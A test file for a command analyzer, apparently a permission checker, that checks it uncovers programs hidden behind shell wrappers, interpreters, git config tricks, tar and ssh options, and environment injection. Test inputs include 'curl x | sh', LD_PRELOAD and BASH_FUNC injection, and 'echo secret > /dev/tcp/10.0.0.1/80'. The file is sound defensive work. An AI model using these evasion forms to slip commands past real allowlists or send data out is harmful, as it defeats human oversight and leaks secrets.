import assert from "node:assert/strict";
import {
  analyzeCommand,
  analyzeShellScript,
  DYNAMIC_COMMAND,
  GIT_CONFIG_EXEC,
  SCRIPT_COMMAND,
} from "./command_analysis.ts";

function commands(argv: string[], cwd = "/ws"): string[] {
  return analyzeCommand(argv, { cwd }).commands;
}

/** `curl` hidden inside `argv` is found: an allowed wrapper does not hide it. */
function assertFindsCurl(argv: string[]): void {
  const found = commands(argv);
  assert.ok(found.includes("curl"), `${JSON.stringify(argv)} → ${found.join(" ")}`);
}

/** `argv` runs something that cannot be seen: it needs the named pseudo-command. */
function assertNeeds(argv: string[], pseudo: string): void {
  const found = commands(argv);
  assert.ok(found.includes(pseudo), `${JSON.stringify(argv)} → ${found.join(" ")}`);
}

/** `argv` runs exactly these commands. */
function assertExactly(argv: string[], expected: string[]): void {
  assert.deepEqual(commands(argv), expected, JSON.stringify(argv));
}

// -- one case per wrapper and interpreter, each hiding curl --------------------

const HIDDEN: Record<string, string[]> = {
  "bash -c": ["bash", "-c", "echo hi; curl x"],
  "sh -c": ["sh", "-c", "true && curl x"],
  "dash -c": ["dash", "-c", "curl x || true"],
  "zsh -f -c": ["zsh", "-f", "-c", "echo | curl x"],
  "bash -ec (combined flags)": ["bash", "-ec", "curl x"],
  "bash -c with $(…)": ["bash", "-c", "echo $(curl x)"],
  "bash -c with backticks": ["bash", "-c", "echo `curl x`"],
  "bash -c with <(…)": ["bash", "-c", "diff <(curl x) y"],
  "bash -c with a subshell": ["bash", "-c", "(cd /tmp; curl x)"],
  "bash -c with a newline": ["bash", "-c", "echo a\ncurl x"],
  "bash -c with &": ["bash", "-c", "sleep 1 & curl x"],
  "bash -c with quotes inside the name": ["bash", "-c", `c"u"'r'l x`],
  "bash -c in an if": ["bash", "-c", "if true; then curl x; fi"],
  "bash -c in a function body": ["bash", "-c", "f() { curl x; }; f"],
  "bash -c in an assignment": ["bash", "-c", "A=$(curl x) true"],
  "bash -c in a trap": ["bash", "-c", "trap 'curl x' EXIT"],
  "nested bash -c": ["bash", "-c", "sh -c 'curl x'"],
  "env": ["env", "curl", "x"],
  "env -i VAR=x": ["env", "-i", "A=1", "curl", "x"],
  "env -S": ["env", "-S", "curl -s x"],
  "env -u NAME": ["env", "-u", "HOME", "curl", "x"],
  "xargs": ["xargs", "curl"],
  "xargs -n 1 -P 4": ["xargs", "-n", "1", "-P", "4", "curl"],
  "xargs -I {}": ["xargs", "-I", "{}", "curl", "{}"],
  "find -exec": ["find", ".", "-name", "*.txt", "-exec", "curl", "{}", ";"],
  "find -execdir … +": ["find", ".", "-execdir", "curl", "{}", "+"],
  "find -ok": ["find", ".", "-ok", "curl", "{}", ";"],
  "find -okdir": ["find", ".", "-okdir", "curl", "{}", ";"],
  "git -c alias.x=!curl": ["git", "-c", "alias.x=!curl x", "x"],
  "git -c core.sshCommand": ["git", "-c", "core.sshCommand=curl x", "fetch"],
  "git -c core.pager": ["git", "-c", "core.pager=curl x", "log"],
  "git rebase --exec": ["git", "rebase", "--exec", "curl x", "main"],
  "git submodule foreach": ["git", "submodule", "foreach", "curl", "x"],
  "git bisect run": ["git", "bisect", "run", "curl", "x"],
  "sudo": ["sudo", "-u", "root", "curl", "x"],
  "nice": ["nice", "-n", "10", "curl", "x"],
  "nice -N": ["nice", "-5", "curl", "x"],
  "nohup": ["nohup", "curl", "x"],
  "timeout N": ["timeout", "5", "curl", "x"],
  "timeout -k": ["timeout", "-k", "1", "5s", "curl", "x"],
  "time": ["time", "-p", "curl", "x"],
  "stdbuf": ["stdbuf", "-oL", "-e", "0", "curl", "x"],
  "setsid": ["setsid", "-w", "curl", "x"],
  "chroot": ["chroot", "/", "curl", "x"],
  "busybox APPLET": ["busybox", "curl", "x"],
  "busybox sh -c": ["busybox", "sh", "-c", "curl x"],
  "command": ["command", "curl", "x"],
  "exec": ["exec", "-a", "name", "curl", "x"],
  "absolute path of a wrapper": ["/usr/bin/env", "/usr/bin/curl", "x"],
  "wrappers stacked": ["sudo", "nice", "timeout", "9", "nohup", "env", "curl"],
  "tar --to-command": ["tar", "--to-command=curl x", "-xf", "a.tar"],
  "tar --checkpoint-action=exec": ["tar", "--checkpoint-action=exec=curl x", "-cf", "a", "b"],
  "rsync -e": ["rsync", "-e", "curl x", "a", "b:c"],
  "ssh -o ProxyCommand": ["ssh", "-o", "ProxyCommand=curl x", "host"],
  "zip -TT": ["zip", "-T", "-TT", "curl x", "a.zip", "b"],
  "man -P": ["man", "-P", "curl x", "ls"],
};

for (const [name, argv] of Object.entries(HIDDEN)) {
  Deno.test(`analyzeCommand finds curl hidden by ${name}`, () => {
    assertFindsCurl(argv);
    assert.equal(commands(argv)[0], argv[0].split("/").at(-1));
  });
}

// -- inline code is its own pseudo-command -------------------------------------

const INLINE: [string, string[], string][] = [
  ["python -c hiding curl", ["python", "-c", "import os; os.system('curl x')"], "python:eval"],
  ["python -c", ["python", "-c", "print(1)"], "python:eval"],
  ["python3 -c", ["python3", "-c", "print(1)"], "python3:eval"],
  ["python3 -Ic (combined)", ["python3", "-Ic", "print(1)"], "python3:eval"],
  ["python reading stdin", ["python3"], "python3:eval"],
  ["python -", ["python3", "-", "arg"], "python3:eval"],
  ["node -e", ["node", "-e", "1"], "node:eval"],
  ["node --eval=", ["node", "--eval=1"], "node:eval"],
  ["node -p", ["node", "-p", "1"], "node:eval"],
  ["node -pe", ["node", "-pe", "1"], "node:eval"],
  ["node --print", ["node", "--print", "1"], "node:eval"],
  ["node after a valued option", ["node", "--title", "x", "-e", "1"], "node:eval"],
  ["deno eval", ["deno", "eval", "console.log(1)"], "deno:eval"],
  ["deno run URL", ["deno", "run", "-A", "https://example.com/x.ts"], "deno:eval"],
  ["deno run npm:", ["deno", "run", "npm:cowsay"], "deno:eval"],
  ["deno URL without run", ["deno", "https://example.com/x.ts"], "deno:eval"],
  ["deno run -", ["deno", "run", "-"], "deno:eval"],
  ["deno repl", ["deno", "repl"], "deno:eval"],
  ["perl -e", ["perl", "-e", "print 1"], "perl:eval"],
  ["perl -ne", ["perl", "-ne", "print"], "perl:eval"],
  ["perl -lne", ["perl", "-lne", "print"], "perl:eval"],
  ["perl -E", ["perl", "-E", "say 1"], "perl:eval"],
  ["perl -M with code", ["perl", "-M'POSIX;system(1)'", "x.pl"], "perl:eval"],
  ["ruby -e", ["ruby", "-e", "puts 1"], "ruby:eval"],
  ["ruby -ne", ["ruby", "-ne", "puts $_"], "ruby:eval"],
  ["awk system()", ["awk", 'BEGIN { system("id") }'], "awk:eval"],
  ["awk pipe to a command", ["awk", '{ print | "sh" }'], "awk:eval"],
  ["sed e command", ["sed", "1e id", "f"], "sed:eval"],
  ["sed s///e", ["sed", "s/x/id/e", "f"], "sed:eval"],
  ["sed -f", ["sed", "-f", "script.sed", "f"], "sed:eval"],
];

for (const [name, argv, pseudo] of INLINE) {
  Deno.test(`analyzeCommand reports ${pseudo} for ${name}`, () => {
    assertNeeds(argv, pseudo);
    assert.equal(commands(argv)[0], argv[0]);
  });
}

Deno.test("analyzeCommand does not report inline code for script files", () => {
  assertExactly(["python3", "script.py", "-c", "x"], ["python3"]);
  assertExactly(["python3", "-u", "-m", "pytest", "-q"], ["python3"]);
  assertExactly(["node", "--max-old-space-size=100", "server.js"], ["node"]);
  assertExactly(["deno", "run", "--allow-read", "main.ts"], ["deno"]);
  assertExactly(["deno", "test", "-A"], ["deno"]);
  assertExactly(["deno", "--version"], ["deno"]);
  assertExactly(["perl", "-w", "script.pl"], ["perl"]);
  assertExactly(["perl", "-i.bak", "x.pl"], ["perl"]);
  assertExactly(["ruby", "-w", "script.rb"], ["ruby"]);
  assertExactly(["awk", "-F:", "{ print $1 }", "/etc/passwd"], ["awk"]);
  assertExactly(["sed", "-n", "s/a/b/p", "f"], ["sed"]);
  assertExactly(["sed", "-i", "-e", "s|a|b|g", "f"], ["sed"]);
});

// -- git ---------------------------------------------------------------------

Deno.test("analyzeCommand flags git settings that run programs and keeps harmless ones", () => {
  for (
    const key of [
      "alias.x=!curl x",
      "alias.st=status",
      "core.sshCommand=ssh -i k",
      "core.pager=less",
      "core.editor=vi",
      "core.fsmonitor=./x",
      "core.hooksPath=hooks",
      "credential.helper=store",
      "diff.external=x",
      "filter.lfs.smudge=x",
      "include.path=/ws/evil",
      "protocol.ext.allow=always",
      "ALIAS.X=!curl", // keys are case-insensitive
    ]
  ) {
    assertNeeds(["git", "-c", key, "status"], GIT_CONFIG_EXEC);
  }
  assertNeeds(["git", "--config-env=core.pager=PAGER", "log"], GIT_CONFIG_EXEC);
  assertNeeds(["git", "--exec-path=/ws/bin", "status"], GIT_CONFIG_EXEC);
  assertNeeds(["git", "clone", "--template=/ws/t", "u", "d"], GIT_CONFIG_EXEC);
  assertNeeds(["git", "clone", "-c", "core.sshCommand=x", "u"], GIT_CONFIG_EXEC);
  assertNeeds(["git", "clone", "ext::sh -c curl% x", "d"], GIT_CONFIG_EXEC);
  assertNeeds(["git", "config", "alias.x", "!curl x"], GIT_CONFIG_EXEC);
  assertNeeds(["git", "config", "set", "core.pager", "x"], GIT_CONFIG_EXEC);
  assertNeeds(["git", "config", "--edit"], GIT_CONFIG_EXEC);
  assertFindsCurl(["git", "config", "--global", "alias.x", "!curl x"]);
  assertFindsCurl(["git", "fetch", "--upload-pack=curl x", "origin"]);
  assertFindsCurl(["git", "clone", "-u", "curl x", "u"]);
  assertFindsCurl(["git", "difftool", "-x", "curl"]);
  assertFindsCurl(["git", "grep", "--open-files-in-pager=curl", "x"]);
  assertFindsCurl(["git", "filter-branch", "--tree-filter", "curl x", "HEAD"]);
  assertFindsCurl(["git", "-C", "sub", "-c", "alias.x=!curl y", "x"]);
  assertExactly(["git", "-c", "user.name=A", "-c", "color.ui=false", "commit", "-m", "x"], [
    "git",
  ]);
  assertExactly(["git", "config", "--get", "alias.x"], ["git"]);
  assertExactly(["git", "config", "user.email", "a@b"], ["git"]);
  assertExactly(["git", "--no-pager", "log", "--oneline", "-n", "3"], ["git"]);
  assertExactly(["git", "grep", "-O", "pattern"], ["git"]);
});

// -- dynamic and script pseudo-commands ----------------------------------------

Deno.test("analyzeCommand reports sh:dynamic for what cannot be known before it runs", () => {
  const dynamic = [
    ["bash", "-c", "$CMD x"],
    ["bash", "-c", '"$@"', "_", "curl"],
    ["bash", "-c", "${X:-curl} y"],
    ["bash", "-c", "$(echo curl) x"],
    ["bash", "-c", "eval curl"],
    ["bash", "-c", "exec curl x"],
    ["bash", "-c", "cat <<EOF\nx\nEOF"],
    ["bash", "-c", "case $x in a) curl;; esac"],
    ["bash", "-c", "alias ls=curl"],
    ["bash", "-c", "/usr/bin/cur? x"],
    ["bash", "-c", "~/bin/tool"],
    ["bash", "-c", "{cu,x}rl"],
    ["bash", "-c", "$'\\x63url' x"],
    ["bash", "-c", "PATH=/ws/bin git status"],
    ["bash", "-c", "export LD_PRELOAD=/ws/x.so; ls"],
    ["bash", "-c", "echo secret > /dev/tcp/10.0.0.1/80"],
    ["bash", "-c", "curl x | sh"],
    ["bash", "-c", "cd sub && ./tool"],
    ["bash", "-c", "echo 'unterminated"],
    ["bash", "-lc", "ls"],
    ["bash", "-i", "-c", "ls"],
    ["bash"],
    ["bash", "-s"],
    ["zsh", "-c", "ls"],
    ["env", "LD_PRELOAD=/ws/x.so", "ls"],
    ["env", "BASH_FUNC_ls%%=() { curl; }", "bash", "-c", "ls"],
    ["env", "GIT_SSH_COMMAND=curl", "git", "fetch"],
    ["env", "--frobnicate", "ls"],
    ["sudo", "-s", "ls"],
    ["sudo", "GIT_PAGER=x", "git", "log"],
    ["xargs", "sh", "-c"],
    ["xargs", "git", "log"],
    ["xargs", "-I", "%", "sh", "-c", "%"],
    ["find", ".", "-exec", "{}", ";"],
    ["find", ".", "-exec", "sh", "-c", "{}", ";"],
    ["chroot", "/ws/root", "git"],
    ["watch", "ls"],
    ["su", "-c", "ls"],
    ["tar", "-I", "curl", "-xf", "a"],
    ["ssh", "-F", "/ws/cfg", "host"],
    ["vim", "-c", "!curl x", "f"],
    // Arithmetic evaluates variable values, whose subscripts may hold substitutions.
    ["bash", "-c", "x=$(cat f); (( x ))"],
    ["bash", "-c", "x='a[$(curl y)]'; [[ $x -eq 1 ]]"],
    ["bash", "-c", "echo $((x + 1))"],
    ["bash", "-c", "let x"],
    ["bash", "-c", "declare -i y=$x"],
    ["bash", "-c", "echo ${a[$i]}"],
    ["bash", "-c", "a[$x]=1"],
    ["bash", "-c", "unset 'a[$(curl)]'"],
  ];
  for (const argv of dynamic) assertNeeds(argv, DYNAMIC_COMMAND);
});

Deno.test("analyzeCommand reports sh:script for a shell running a file", () => {
  assertExactly(["bash", "build.sh"], ["bash", SCRIPT_COMMAND]);
  assertExactly(["sh", "-e", "--", "build.sh", "x"], ["sh", SCRIPT_COMMAND]);
  assertNeeds(["bash", "-c", "source ./env.sh"], SCRIPT_COMMAND);
  assertNeeds(["bash", "-c", ". ./env.sh && make"], SCRIPT_COMMAND);
  assertNeeds(["deno", "task", "build"], SCRIPT_COMMAND);
  assertNeeds(["node", "--run", "build"], SCRIPT_COMMAND);
});

// -- names ---------------------------------------------------------------------

Deno.test("analyzeCommand names system programs by basename and other paths by path", () => {
  assertExactly(["/usr/bin/curl", "x"], ["curl"]);
  assertExactly(["/bin/../usr/bin/git"], ["git"]);
  assertExactly(["./git", "status"], ["/ws/git"]);
  assertExactly(["tools/run.sh"], ["/ws/tools/run.sh"]);
  assertExactly(["../../usr/bin/curl"], ["curl"]);
  assertExactly(["/opt/tool/bin/tool"], ["/opt/tool/bin/tool"]);
  assertExactly(["sudo", "./git"], ["sudo", "/ws/git"]);
  assert.deepEqual(analyzeCommand(["./x"]).commands, ["./x"]);
});

// -- things that run nothing more ----------------------------------------------

Deno.test("analyzeCommand reports each command once and skips shell builtins and syntax", () => {
  assertExactly(["echo", "hi"], ["echo"]);
  assertExactly(["bash", "-c", "echo hi; printf x; cd /; test -f x && [ -d y ]; true"], [
    "bash",
  ]);
  assertExactly(["sh", "-c", "ls -la | grep x > out.txt 2>&1; ls"], ["sh", "ls", "grep"]);
  assertExactly(["bash", "-c", 'for f in *.ts; do wc -l "$f"; done'], ["bash", "wc"]);
  assertExactly(["bash", "-c", "while read l; do echo $l; done < in.txt"], ["bash"]);
  assertExactly(["bash", "-c", "[[ -f a && -f b ]] && make || exit 1"], ["bash", "make"]);
  assertExactly(["bash", "-c", "# curl x\nls # ; curl"], ["bash", "ls"]);
  assertExactly(["bash", "-c", "echo 'curl x' \"curl y\" \\; curl"], ["bash"]);
  assertExactly(["bash", "-c", "X=1 NODE_ENV=test npm test"], ["bash", "npm"]);
  assertExactly(["bash", "-c", "echo $((1 + 2)) ${a[0]} ${#b} ${c:-d}"], ["bash"]);
  assertExactly(["bash", "-c", "cu\\\nrl x"], ["bash", "curl"]);
  assertExactly(["bash", "-c", "find . -name '*.ts' -exec grep -l x {} +"], [
    "bash",
    "find",
    "grep",
  ]);
  assertExactly(["env", "NO_COLOR=1", "LANG=C", "ls"], ["env", "ls"]);
  assertExactly(["command", "-v", "curl"], ["command"]);
  assertExactly(["xargs", "-0", "rm", "-f"], ["xargs", "rm"]);
  assertExactly(["timeout", "--help"], ["timeout"]);
});

Deno.test("analyzeCommand explains what it unwrapped", () => {
  const { commands: found, reasons } = analyzeCommand(["sudo", "bash", "-c", "curl x; $Y"]);
  assert.deepEqual(found, ["sudo", "bash", "curl", DYNAMIC_COMMAND]);
  assert.ok(reasons.some((r) => r.startsWith("curl: run by bash -c")), reasons.join("\n"));
  assert.ok(
    reasons.some((r) => r.startsWith("sh:dynamic:") && r.includes("$Y")),
    reasons.join("\n"),
  );
});

Deno.test("analyzeCommand stays bounded on hostile input", () => {
  const deep = "$(".repeat(5000) + "curl" + ")".repeat(5000);
  const start = performance.now();
  assertNeeds(["bash", "-c", deep], DYNAMIC_COMMAND);
  let nested: string[] = ["curl"];
  for (let i = 0; i < 100; i++) nested = ["env", ...nested];
  assertNeeds(nested, DYNAMIC_COMMAND);
  const quotes = "'a'\"b\"".repeat(20_000);
  assertExactly(["sh", "-c", quotes], ["sh", "ab".repeat(20_000)]);
  assert.ok(performance.now() - start < 2000);
});

Deno.test("analyzeShellScript analyzes a bare shell string", () => {
  assert.deepEqual(
    analyzeShellScript("cd src && make test | tee log; echo $(whoami)").commands,
    ["make", "tee", "whoami"],
  );
});
